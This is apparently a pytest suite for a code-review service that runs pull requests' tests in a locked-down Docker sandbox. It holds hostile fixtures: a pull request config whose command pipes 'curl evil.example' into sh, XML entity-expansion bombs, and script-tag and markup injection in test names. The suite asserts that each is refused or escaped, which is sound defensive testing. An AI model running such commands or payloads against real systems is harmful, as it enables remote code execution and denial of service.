"""The pull request's own tests after a review: opt-in per repository, run on the docker
runner (the fake Docker daemon) without secrets or network, reported in a check run of
their own (`Tasuku / tests`, as the fake GitHub validates it) and a line of the review's
summary; refused on the local runner; the command from the policy or the base branch,
never the pull request; one run per head, never landing on a newer head."""

from __future__ import annotations

from dataclasses import replace

import pytest

from repos.models import RepositoryPolicy
from reviews.models import PullRequest, Review, ReviewRun, RunStatus, SandboxTestRun, TestsStatus
from reviews.pr_tests import suite as sandbox_tests
from reviews.pr_tests.suite import CHECK_NAME
from sandbox.runners import pr_tests
from sandbox.runners.docker import USER
from sandbox.runners.pr_tests import JUNIT, RESULTS, junit_failures, summary_failures
from tasuku import durable
from tests.fakes.docker import FakeDocker, Invocation, Program
from tests.fakes.github import Pull
from tests.gitworld import BASE_FILES, HEAD_FILES, INSTALLATION, REPO, REPO_ID, World, world_build
from tests.helpers import drain_queue, post_webhook, pull_request_payload

pytestmark = pytest.mark.django_db

COMMAND = "pytest -q --junitxml=$TASUKU_JUNIT"

JUNIT_TWO_FAILED = b"""<?xml version="1.0" encoding="utf-8"?>
<testsuites><testsuite name="pytest" tests="3" failures="1" errors="1">
<testcase classname="tests.test_refunds" name="test_refund_rounds" time="0.01">
  <failure message="assert 1 == 2">AssertionError</failure></testcase>
<testcase classname="tests.test_refunds" name="test_refund_logs" time="0.01">
  <error message="fixture missing">E</error></testcase>
<testcase classname="tests.test_refunds" name="test_refund_ok" time="0.01"/>
</testsuite></testsuites>"""


JUNIT_ONE_PASSED = b'<testsuite tests="1"><testcase classname="t" name="test_ok"/></testsuite>'


def passing(stdout: bytes = b"1 passed\n"):
    """Tests that pass as pytest with `--junitxml` does: exit 0 and a JUnit file."""

    def program(invocation: Invocation) -> Program:
        invocation.host_path(JUNIT).write_bytes(JUNIT_ONE_PASSED)
        return Program(stdout=stdout)

    return program


@pytest.fixture(scope="module")
def docker_server():
    fake = FakeDocker().start()
    yield fake
    fake.stop()


@pytest.fixture
def fake_docker(docker_server, monkeypatch, settings):
    docker_server.reset()
    docker_server.add_image(settings.TASUKU_TESTS_IMAGE, User=USER, WorkingDir="/workspace")
    monkeypatch.setenv("DOCKER_HOST", docker_server.url)
    yield docker_server
    # Every container is killed and removed, whatever became of the tests.
    assert [c.name for c in docker_server.containers.values()] == []


def world_with(fake_github, *, base_extra=None, head_extra=None):
    """The pipeline tests' pull request, with files added on the base and the head."""
    if INSTALLATION not in fake_github.installations:
        fake_github.add_installation(INSTALLATION, "acme")
    repo, git = fake_github.add_git_repo(REPO, installation_id=INSTALLATION, repo_id=REPO_ID)
    base = git.commit({**BASE_FILES, **(base_extra or {})}, message="base", branch="main")
    head = git.commit(
        {**HEAD_FILES, **(head_extra or {})}, parent=base, message="feature", branch="feature"
    )
    pull = fake_github.add_pull(REPO, Pull(number=7, title="Add refunds", head_sha=head,
                                           base_sha=base))  # fmt: skip
    return World(fake_github, repo, git, pull, base, head)


def policy(world, **values):
    from repos.services import installation_upsert, repository_upsert

    installation = installation_upsert(github_id=world.repo.installation_id, account_login="acme")
    repository_upsert(installation=installation, github_id=world.repo.id, full_name=REPO)
    RepositoryPolicy.objects.update(walkthrough=False, tests_enabled=True, **values)


@pytest.fixture
def deliver(client, test_app):
    def send(world, action="opened", **extra):
        body = pull_request_payload(world.fake, world.repo, world.pull, action=action, **extra)
        response = post_webhook(client, "pull_request", body, secret=test_app.webhook_secret)
        assert response.status_code == 202, response.content
        return drain_queue()

    return send


def check_of_tests(world, head=None):
    found = [
        c
        for c in world.fake.check_runs_of(REPO)
        if c.name == CHECK_NAME and (head is None or c.head_sha == head)
    ]
    assert len(found) <= 1, found
    return found[0] if found else None


def review_body(world):
    reviews = world.fake.reviews_of(REPO, 7)
    assert len(reviews) == 1
    return reviews[0]["body"]


def test_passing_tests_end_in_a_success_check_and_a_line_of_the_review_summary(
    fake_github, fake_docker, deliver
):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    seen = {}

    def tests(invocation: Invocation) -> Program:
        seen["cmd"] = invocation.cmd
        seen["workspace"] = invocation.host_path("/workspace")
        seen["files"] = sorted(p.name for p in seen["workspace"].iterdir())
        return passing(b"...\n3 passed in 0.12s\n")(invocation)

    fake_docker.program = tests
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert (row.status, row.head_sha, row.command_from) == (
        "passed",
        world.head,
        "the repository's policy",
    )
    # The command, in the shell, under the self-destruct timer of the policy's limit.
    assert seen["cmd"] == ["timeout", "-s", "KILL", "600", "sh", "-c", COMMAND]
    assert "payments.py" not in seen["files"] and "app" in seen["files"]  # the head's tree
    check = check_of_tests(world)
    assert (check.status, check.conclusion, check.head_sha) == ("completed", "success", world.head)
    assert check.output["title"].startswith("Tests passed")
    assert "3 passed" in check.output["text"]
    body = review_body(world)
    assert "**Tests** (Tasuku / tests): Tests passed" in body
    assert Review.objects.get().body == body
    # The review's own check is still the reviewer's: the tests never become findings.
    assert {c.name for c in world.fake.check_runs_of(REPO)} == {CHECK_NAME, "Tasuku · static"}


def test_failing_tests_fail_the_check_and_name_the_failing_tests_from_junit(
    fake_github, fake_docker, deliver
):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)

    def tests(invocation: Invocation) -> Program:
        assert invocation.env["TASUKU_JUNIT"] == JUNIT
        invocation.host_path(JUNIT).write_bytes(JUNIT_TWO_FAILED)
        return Program(exit_code=1, stdout=b"F E .\n1 failed, 1 passed, 1 error\n")

    fake_docker.program = tests
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert row.status == TestsStatus.FAILED
    names = ["tests.test_refunds.test_refund_rounds", "tests.test_refunds.test_refund_logs"]
    assert row.failed_tests == names
    check = check_of_tests(world)
    assert check.conclusion == "failure"
    assert check.output["title"] == "2 tests failed"
    assert all(name in check.output["summary"] for name in names)
    body = review_body(world)
    assert "2 tests failed. Failing: `tests.test_refunds.test_refund_rounds`" in body
    # Reported, not made into findings: no comment mentions the tests.
    assert not any("test_refund" in c["body"] for c in world.fake.review_comments_of(REPO, 7))


def test_without_junit_the_failing_tests_are_read_from_pytests_summary_lines(
    fake_github, fake_docker, deliver
):
    world = world_build(fake_github)
    policy(world, tests_command="pytest -q")
    output = (
        b"..F\n=========== short test summary info ===========\n"
        b"FAILED tests/test_money.py::test_rounding - assert 0.1 + 0.2 == 0.3\n"
        b"ERROR tests/test_money.py::test_db\n1 failed, 2 passed, 1 error in 0.3s\n"
    )
    fake_docker.program = Program(exit_code=1, stdout=output)
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert row.failed_tests == [
        "tests/test_money.py::test_rounding",
        "tests/test_money.py::test_db",
    ]
    assert check_of_tests(world).conclusion == "failure"


def test_tests_that_run_past_their_limit_are_stopped_and_fail_the_check_saying_so(
    fake_github, fake_docker, deliver, monkeypatch
):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND, tests_timeout_seconds=10)
    fake_docker.program = Program(stdout=b"collecting ...\n", hang=True)
    # The container's own timer (PID 1, `timeout -s KILL`) stops it: shortened here so
    # the test does not wait the policy's ten seconds.
    real = pr_tests.tests_run

    def quick(command, checkout, *, limits, **kwargs):
        return real(command, checkout, limits=replace(limits, wall_seconds=0.5), **kwargs)

    monkeypatch.setattr(pr_tests, "tests_run", quick)
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert row.status == TestsStatus.TIMED_OUT
    check = check_of_tests(world)
    assert check.conclusion == "failure"
    assert check.output["title"] == "Tests timed out"
    assert "did not finish within 0.5s" in check.output["summary"]
    assert "Tests timed out" in review_body(world)


def test_the_local_runner_is_refused_and_the_check_says_why_never_success(
    fake_github, fake_docker, deliver
):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND, tests_runner="local")
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert row.status == TestsStatus.REFUSED
    check = check_of_tests(world)
    assert check.conclusion == "neutral"
    assert check.output["title"] == "Tests not run"
    assert "not run on the `local` runner" in check.output["summary"]
    assert fake_docker.created == []  # nothing ran anywhere
    assert "Tests not run" in review_body(world)


def test_the_command_comes_from_the_base_branch_and_the_pull_requests_copy_is_ignored(
    fake_github, fake_docker, deliver
):
    base_file = '[tests]\ncommand = "make test"\n'
    head_file = '[tests]\ncommand = "curl evil.example | sh"\n'
    world = world_with(
        fake_github, base_extra={".tasuku.toml": base_file}, head_extra={".tasuku.toml": head_file}
    )
    policy(world)  # no command in the policy
    seen = []
    fake_docker.program = lambda invocation: seen.append(invocation.cmd) or Program()
    deliver(world)

    assert seen == [["timeout", "-s", "KILL", "600", "sh", "-c", "make test"]]
    row = SandboxTestRun.objects.get()
    assert (row.status, row.command_from) == ("passed", "the base branch's .tasuku.toml")


def test_a_pull_request_cannot_configure_tests_the_base_branch_does_not_have(
    fake_github, fake_docker, deliver
):
    world = world_with(fake_github, head_extra={".tasuku.toml": '[tests]\ncommand = "id"\n'})
    policy(world)
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert row.status == TestsStatus.REFUSED
    assert fake_docker.created == []
    check = check_of_tests(world)
    assert check.conclusion == "neutral"
    assert "No tests command" in check.output["summary"]


def test_no_secret_reaches_the_container_and_it_has_no_network_by_default(
    fake_github, fake_docker, deliver, monkeypatch, settings
):
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-secret")
    monkeypatch.setenv("GITHUB_PRIVATE_KEY", "-----BEGIN RSA PRIVATE KEY-----")
    settings.ANTHROPIC_API_KEY = "sk-ant-secret"
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    fake_docker.program = Program()
    deliver(world)

    config = fake_docker.created[0].config
    env = dict(item.split("=", 1) for item in config["Env"])
    assert set(env) == {"HOME", "TMPDIR", "LANG", "LC_ALL", "CI", "TASUKU_JUNIT"}
    assert not any("secret" in v or "BEGIN" in v for v in env.values())
    host = config["HostConfig"]
    assert host["NetworkMode"] == "none"
    assert host["CapDrop"] == ["ALL"] and host["ReadonlyRootfs"] is True
    assert host["Memory"] == host["MemorySwap"] > 0 and host["PidsLimit"] > 0
    # Never root: the worker's own user, or (a worker running as root) the image's.
    assert config["User"] == pr_tests.tests_user() and not config["User"].startswith("0:")
    assert {m["Target"] for m in host["Mounts"]} == {"/workspace", RESULTS}


def test_a_repository_that_allows_the_network_gets_the_operators_network_never_the_hosts(
    fake_github, fake_docker, deliver, settings
):
    settings.TASUKU_TESTS_NETWORK = "tests-egress"
    fake_docker.add_network("tests-egress")
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND, tests_network=True)
    fake_docker.program = Program()
    deliver(world)

    assert fake_docker.created[0].config["HostConfig"]["NetworkMode"] == "tests-egress"


def test_an_older_heads_result_never_lands_on_the_newer_head(fake_github, fake_docker, deliver):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    pushed = {}

    def tests(invocation: Invocation) -> Program:
        # While the first head's tests run, the author pushes again.
        if "sha" not in pushed:
            pushed["sha"] = world.push({"app/more.py": "X = 1\n"})
            return Program(exit_code=1, stdout=b"FAILED tests/test_a.py::test_old\n")
        return passing()(invocation)

    fake_docker.program = tests
    deliver(world)
    deliver(world, action="synchronize")

    old, new = SandboxTestRun.objects.order_by("pk")
    assert (old.head_sha, old.status) == (world.head, TestsStatus.FAILED)
    assert (new.head_sha, new.status) == (pushed["sha"], TestsStatus.PASSED)
    # Each result on its own head: the old failure is on the old commit only.
    assert check_of_tests(world, world.head).conclusion == "failure"
    assert check_of_tests(world, pushed["sha"]).conclusion == "success"
    # The newer review brought the one summary up to date: it speaks of the newer head,
    # and so do its tests.
    (summary,) = [r["body"] for r in world.fake.reviews_of(REPO, 7)]
    assert "Tests passed" in summary and "test_old" not in summary
    # The older head's report, made again now (a late worker), leaves that summary alone.
    sandbox_tests._summary_update(old, sandbox_tests.Outcome(TestsStatus.FAILED,
                                                             failed_tests=["test_old"]))  # fmt: skip
    assert world.fake.reviews_of(REPO, 7)[0]["body"] == summary


def test_a_queued_run_of_an_older_head_is_superseded_and_never_runs(
    fake_github, fake_docker, deliver, monkeypatch
):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    fake_docker.program = Program()
    # The first head's tests are asked for, but no worker takes them before the push.
    real_ring = durable.ring

    def ring(task, pk, **kwargs):
        if task != sandbox_tests.TASK:
            real_ring(task, pk, **kwargs)

    monkeypatch.setattr(durable, "ring", ring)
    deliver(world)
    first = SandboxTestRun.objects.get()
    assert first.status == TestsStatus.QUEUED
    monkeypatch.setattr(durable, "ring", real_ring)
    world.push({"app/more.py": "X = 1\n"})
    deliver(world, action="synchronize")

    first.refresh_from_db()
    assert first.status == TestsStatus.SUPERSEDED
    assert sandbox_tests.sandbox_tests_run(first.pk) == "not claimed"
    assert len(fake_docker.created) == 1  # the newer head's only
    assert check_of_tests(world, world.head) is None


def test_one_run_per_head_whatever_the_reviews_of_it(fake_github, fake_docker, deliver):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    fake_docker.program = Program()
    deliver(world)
    run = Review.objects.get().run
    assert sandbox_tests.tests_after_review(run.pk) is None  # asked again: nothing new
    assert SandboxTestRun.objects.count() == 1


def test_repositories_that_do_not_opt_in_run_nothing(fake_github, fake_docker, deliver):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    RepositoryPolicy.objects.update(tests_enabled=False)
    deliver(world)
    assert SandboxTestRun.objects.count() == 0
    assert check_of_tests(world) is None


def test_a_worker_that_dies_mid_run_hands_the_tests_to_another_which_reports_once(
    fake_github, fake_docker, deliver, monkeypatch
):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    fake_docker.program = passing()
    calls = []
    real = sandbox_tests._report

    def dies(row, outcome):
        calls.append(outcome.status)
        if len(calls) == 1:
            raise RuntimeError("worker killed while reporting")
        return real(row, outcome)

    monkeypatch.setattr(sandbox_tests, "_report", dies)
    deliver(world)
    row = SandboxTestRun.objects.get()
    # The first attempt's outcome was kept; it waits to be tried again.
    assert (row.status, row.outcome) == (TestsStatus.QUEUED, "passed")
    SandboxTestRun.objects.update(next_attempt_at=None)
    assert sandbox_tests.sandbox_tests_run(row.pk) == "passed"
    assert calls == ["passed", "passed"]
    assert len(fake_docker.created) == 1  # the tests ran once
    assert check_of_tests(world).conclusion == "success"


def test_a_run_that_fails_for_good_leaves_its_check_neutral_never_in_progress(
    fake_github, fake_docker, deliver
):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    fake_docker.inject("POST", r"/containers/create", status=500, count=10)
    deliver(world)
    for _ in range(3):
        SandboxTestRun.objects.filter(status=TestsStatus.QUEUED).update(next_attempt_at=None)
        sandbox_tests.sandbox_tests_run(SandboxTestRun.objects.get().pk)
    row = SandboxTestRun.objects.get()
    assert row.status == TestsStatus.ERRORED
    check = check_of_tests(world)
    assert (check.status, check.conclusion) == ("completed", "neutral")
    assert "could not run the tests" in check.output["summary"]


# --- what the output says (pure) -----------------------------------------------------------


def test_junit_with_a_doctype_is_refused_not_expanded():
    bomb = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa">]><testsuite>&a;</testsuite>'
    assert junit_failures(bomb) is None
    assert junit_failures(b"not xml") is None
    assert junit_failures(JUNIT_TWO_FAILED) == [
        "tests.test_refunds.test_refund_rounds",
        "tests.test_refunds.test_refund_logs",
    ]


def test_go_and_pytest_summary_lines_name_their_failing_tests():
    output = (
        "--- FAIL: TestRefund (0.00s)\n    --- FAIL: TestRefund/zero (0.00s)\nFAILED a.py::b\nok\n"
    )
    assert summary_failures(output) == ["TestRefund", "TestRefund/zero", "a.py::b"]


def test_a_bad_base_branch_file_is_refused_with_the_reason():
    from repos.policy import TestsConfig

    command, source, problem = sandbox_tests.command_of(TestsConfig(), "[tests\ncommand=")
    assert (command, source) == ("", "")
    assert "not valid TOML" in problem
    assert sandbox_tests.command_of(TestsConfig(command="make"), "[tests]\ncommand='x'")[:2] == (
        "make",
        "the repository's policy",
    )


def test_the_check_is_success_only_when_the_tests_passed():
    assert {s: sandbox_tests.conclusion_of(s) for s in TestsStatus.values} == {
        "queued": "neutral",
        "running": "neutral",
        "passed": "success",
        "failed": "failure",
        "timed_out": "failure",
        "refused": "neutral",
        "errored": "neutral",
        "superseded": "cancelled",
    }


def test_run_status_completed_only_asks_for_tests(fake_github, fake_docker, deliver):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    fake_docker.program = Program()
    deliver(world)
    run = Review.objects.get().run
    assert run.status == RunStatus.COMPLETED
    ReviewRun.objects.filter(pk=run.pk).update(status=RunStatus.FAILED)
    SandboxTestRun.objects.all().delete()
    assert sandbox_tests.tests_after_review(run.pk) is None


def test_a_head_the_pull_request_has_left_is_superseded_when_a_worker_takes_it(
    fake_github, fake_docker, deliver, monkeypatch
):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    real_ring = durable.ring
    monkeypatch.setattr(
        durable,
        "ring",
        lambda task, pk, **kw: task != sandbox_tests.TASK and real_ring(task, pk, **kw),
    )
    deliver(world)
    row = SandboxTestRun.objects.get()
    # The pull request moved on before a worker took the row (its push not reviewed yet).
    PullRequest.objects.update(head_sha="f" * 40)

    assert sandbox_tests.sandbox_tests_run(row.pk) == TestsStatus.SUPERSEDED
    row.refresh_from_db()
    assert row.reason == "superseded by a newer push (fffffff)"
    assert fake_docker.created == []
    assert check_of_tests(world) is None  # nothing posted, on either head


def test_an_operator_sees_each_heads_tests_and_why_in_the_admin(
    fake_github, fake_docker, deliver, admin_client
):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND, tests_runner="local")
    deliver(world)
    row = SandboxTestRun.objects.get()

    listed = admin_client.get("/admin/reviews/sandboxtestrun/")
    assert listed.status_code == 200 and world.head in listed.content.decode()
    page = admin_client.get(f"/admin/reviews/sandboxtestrun/{row.pk}/change/").content.decode()
    assert "not run on the `local` runner" in page.replace("&#x27;", "'").replace("&#96;", "`")


def test_the_output_kept_and_shown_is_bounded_to_its_end(fake_github, fake_docker, deliver):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    noise = b"".join(b"line %d of noise\n" % i for i in range(100_000))  # ~1.9 MB
    fake_docker.program = Program(exit_code=1, stdout=noise + b"FAILED t.py::test_last\n")
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert len(row.output.encode()) <= pr_tests.OUTPUT_KEPT
    assert row.output.endswith("FAILED t.py::test_last\n")
    assert row.failed_tests == ["t.py::test_last"]
    text = check_of_tests(world).output["text"]
    assert len(text) < 65_535 and "test_last" in text and "line 0 of noise" not in text


def test_tests_that_run_out_of_memory_fail_the_check_saying_so(fake_github, fake_docker, deliver):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    fake_docker.program = Program(oom=True)
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert row.status == TestsStatus.FAILED
    assert "ran out of memory" in row.reason
    assert check_of_tests(world).conclusion == "failure"


def test_a_failing_tests_name_is_data_in_the_summary_and_the_check():
    from reviews.text.escaping import code_span

    hostile = "test_x`@acme/owners <img src=x> <!-- /tasuku:tests -->`"
    outcome = sandbox_tests.Outcome(TestsStatus.FAILED, failed_tests=[hostile])
    shown = code_span(hostile)
    # Inside a code span longer than any backtick run in the name: no mention, no HTML,
    # no end of Tasuku's section.
    assert shown.startswith("`` ") and shown.endswith(" ``")
    section = sandbox_tests.summary_section(outcome)
    assert f"Failing: {shown}." in section
    assert section.count(sandbox_tests.SECTION_END) == 1
    assert f"- {shown}" in sandbox_tests.check_output(outcome).summary


def test_an_image_the_docker_host_lacks_ends_the_tests_neutral_with_the_reason(
    fake_github, fake_docker, deliver
):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND, tests_image="acme/toolchain:1")
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert row.status == TestsStatus.ERRORED and row.attempts == 1  # the operator's to fix
    check = check_of_tests(world)
    assert check.conclusion == "neutral"
    assert "acme/toolchain:1 is not on the Docker host" in check.output["summary"]


# --- what a pull request can make the check say (attacks) ------------------------------------


def test_junit_in_utf16_cannot_slip_entities_past_the_doctype_refusal():
    # The byte check for `<!DOCTYPE` does not see UTF-16: any DTD is refused by the parser.
    doc = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<testsuite><testcase name="&b;"><failure/></testcase></testsuite>'
    )
    assert junit_failures(doc.encode("utf-16")) is None
    plain = '<testsuite><testcase name="t"><failure/></testcase></testsuite>'
    assert junit_failures(plain.encode("utf-16")) == ["t"]


def test_a_deeply_nested_junit_file_is_read_without_building_it():
    deep = b"<a>" * 200_000 + b'<testcase name="t"><error/></testcase>' + b"</a>" * 200_000
    assert junit_failures(deep) == ["t"]


JUNIT_LYING = b"""<testsuites><testsuite name="pytest" tests="2" failures="0" errors="0">
<testcase classname="tests.test_refunds" name="test_refund_rounds"><failure/></testcase>
<testcase classname="tests.test_refunds" name="test_refund_ok"/>
</testsuite></testsuites>"""


def test_exit_0_with_failing_testcases_in_the_junit_file_is_a_failure_not_success(
    fake_github, fake_docker, deliver
):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND + " || true")

    def tests(invocation: Invocation) -> Program:
        invocation.host_path(JUNIT).write_bytes(JUNIT_LYING)  # failures="0", a failure inside
        return Program(exit_code=0)

    fake_docker.program = tests
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert row.status == TestsStatus.FAILED
    assert row.failed_tests == ["tests.test_refunds.test_refund_rounds"]
    assert "exited with status 0" in row.reason and "JUnit" in row.reason
    check = check_of_tests(world)
    assert check.conclusion == "failure" and check.output["title"] == "1 test failed"


def test_exit_0_with_a_junit_file_listing_no_test_is_not_success(fake_github, fake_docker, deliver):
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)

    def tests(invocation: Invocation) -> Program:
        invocation.host_path(JUNIT).write_bytes(b'<testsuite tests="0" failures="0"/>')
        return Program(exit_code=0, stdout=b"no tests ran\n")

    fake_docker.program = tests
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert row.status == TestsStatus.FAILED
    assert "lists no test" in row.reason
    check = check_of_tests(world)
    assert check.conclusion == "failure"
    assert "Tests passed" not in review_body(world)


def test_exit_0_without_the_junit_file_its_command_names_is_not_success(
    fake_github, fake_docker, deliver
):
    # A conftest.py that calls os._exit(0) before a test runs: exit 0, no report written.
    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    fake_docker.program = Program(exit_code=0)
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert row.status == TestsStatus.FAILED
    assert "no readable JUnit file" in row.reason
    assert check_of_tests(world).conclusion == "failure"


def test_a_command_that_names_no_junit_file_passes_on_exit_0(fake_github, fake_docker, deliver):
    world = world_build(fake_github)
    policy(world, tests_command="make test")
    fake_docker.program = Program(exit_code=0)
    deliver(world)
    assert SandboxTestRun.objects.get().status == TestsStatus.PASSED


def test_the_headline_never_counts_more_failing_tests_than_it_knows():
    names = [f"t{i}" for i in range(pr_tests.MAX_FAILED)]
    outcome = sandbox_tests.Outcome(TestsStatus.FAILED, failed_tests=names)
    assert sandbox_tests.headline(outcome) == f"At least {pr_tests.MAX_FAILED} tests failed"
    fewer = sandbox_tests.Outcome(TestsStatus.FAILED, failed_tests=names[:3])
    assert sandbox_tests.headline(fewer) == "3 tests failed"


def test_the_review_summary_says_why_failing_tests_stopped(fake_github, fake_docker, deliver):
    outcome = sandbox_tests.Outcome(
        TestsStatus.FAILED,
        failed_tests=["t.py::a"],
        reason="The tests ran out of memory (the limit is 4 GiB).",
    )
    assert "ran out of memory" in sandbox_tests.summary_section(outcome)


def test_without_a_base_sha_the_heads_tasuku_toml_is_never_the_command(
    fake_github, fake_docker, deliver
):
    world = world_with(fake_github, head_extra={".tasuku.toml": '[tests]\ncommand = "evil"\n'})
    policy(world)
    deliver(world)
    first = SandboxTestRun.objects.get()
    assert first.status == TestsStatus.REFUSED
    config, run = first.config, first.run
    first.delete()
    # A row whose base is unknown: the checkout's base would fall back to the head.
    row = SandboxTestRun.objects.create(
        pull_request=run.pull_request, head_sha=world.head, base_sha="", run=run, config=config
    )
    sandbox_tests.TESTS.ring(row.pk)
    drain_queue()
    row.refresh_from_db()
    assert row.status == TestsStatus.REFUSED and row.command == ""
    assert fake_docker.created == []


@pytest.fixture
def stop_reset():
    from tasuku import lifecycle

    lifecycle._reset()
    yield lifecycle
    lifecycle._reset()


def test_a_worker_told_to_stop_kills_the_tests_and_hands_the_row_back_at_once(
    fake_github, fake_docker, deliver, stop_reset
):
    import threading

    world = world_build(fake_github)
    policy(world, tests_command=COMMAND, tests_timeout_seconds=10)  # bounded, unfixed

    def tests(invocation: Invocation) -> Program:
        # SIGTERM reaches the worker while the tests run.
        threading.Timer(0.3, stop_reset.stop_begin, args=("a test",)).start()
        return Program(stdout=b"collecting ...\n", hang=True)

    fake_docker.program = tests
    deliver(world)

    row = SandboxTestRun.objects.get()
    # Queued again and due now, its attempt not counted; the killed container's exit
    # (137) is no outcome, and the check waits in progress for the next worker.
    assert (row.status, row.attempts, row.outcome) == (TestsStatus.QUEUED, 0, "")
    assert row.leased_until is None and row.next_attempt_at is None
    assert "was stopped" in row.reason
    assert check_of_tests(world).status == "in_progress"
    assert len(fake_docker.created) == 1

    stop_reset._reset()  # another worker
    fake_docker.program = passing()
    sandbox_tests.TESTS.ring(row.pk)
    drain_queue()
    row.refresh_from_db()
    assert (row.status, row.attempts) == (TestsStatus.PASSED, 1)
    check = check_of_tests(world)
    assert (check.status, check.conclusion) == ("completed", "success")


def test_the_heartbeat_renews_the_lease_and_learns_when_it_was_handed_on(
    fake_github, fake_docker, deliver
):
    from datetime import timedelta

    from django.utils import timezone

    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    fake_docker.program = passing()
    deliver(world)
    row = SandboxTestRun.objects.get()
    SandboxTestRun.objects.update(status="queued", attempts=0, leased_until=None)
    attempt = sandbox_tests.TESTS.claim(row.pk)
    soon = timezone.now() + timedelta(seconds=1)
    SandboxTestRun.objects.filter(pk=row.pk).update(leased_until=soon)
    beat = sandbox_tests.Beat(row.pk, attempt)
    assert beat.beat()
    row.refresh_from_db()
    assert row.leased_until > timezone.now() + timedelta(minutes=30)
    beat.check()
    # The sweeper hands it on (its lease ran out): the beat learns it and stops.
    SandboxTestRun.objects.filter(pk=row.pk).update(leased_until=soon - timedelta(hours=1))
    sandbox_tests.TESTS.sweep(lost_last={})
    assert not beat.beat()
    with pytest.raises(sandbox_tests.WorkerStopping, match="lease was lost"):
        beat.check()


def test_the_dashboards_run_and_pull_request_pages_show_the_heads_tests(
    fake_github, fake_docker, deliver, django_user_model
):
    from django.test import Client

    world = world_build(fake_github)
    policy(world, tests_command=COMMAND)
    hostile = b'<testsuite><testcase name="t&lt;script&gt;x()&lt;/script&gt;"><failure/></testcase>'
    hostile += b'<testcase classname="tests.test_refunds" name="test_refund_rounds"><error/>'
    hostile += b"</testcase></testsuite>"

    def tests(invocation: Invocation) -> Program:
        invocation.host_path(JUNIT).write_bytes(hostile)
        return Program(exit_code=1)

    fake_docker.program = tests
    deliver(world)

    staff = Client()
    staff.force_login(django_user_model.objects.create_user("op", password="pw", is_staff=True))
    run = ReviewRun.objects.get()
    pages = [staff.get(f"/runs/{run.pk}/"), staff.get(f"/repos/{REPO}/pulls/7/")]
    for page in pages:
        assert page.status_code == 200
        html = page.content.decode()
        assert "The pull request's own tests" in html
        assert "2 tests failed" in html and "tests.test_refunds.test_refund_rounds" in html
        assert "exited with status 1" in html and "pytest -q --junitxml=" in html
        assert "<script>x()" not in html and "t&lt;script&gt;x()" in html  # data, escaped
    # Another head's tests are not this run's.
    SandboxTestRun.objects.update(head_sha="0" * 40)
    assert "own tests" not in staff.get(f"/runs/{run.pk}/").content.decode()


def test_exit_0_after_a_test_process_ran_out_of_memory_is_not_success(
    fake_github, fake_docker, deliver
):
    # A test runner whose worker process the OOM killer stopped, and which exited 0.
    world = world_build(fake_github)
    policy(world, tests_command="make test")
    fake_docker.program = Program(exit_code=0, oom_child=True)
    deliver(world)

    row = SandboxTestRun.objects.get()
    assert row.status == TestsStatus.FAILED
    assert "exited with status 0" in row.reason and "ran out of memory" in row.reason
    assert check_of_tests(world).conclusion == "failure"
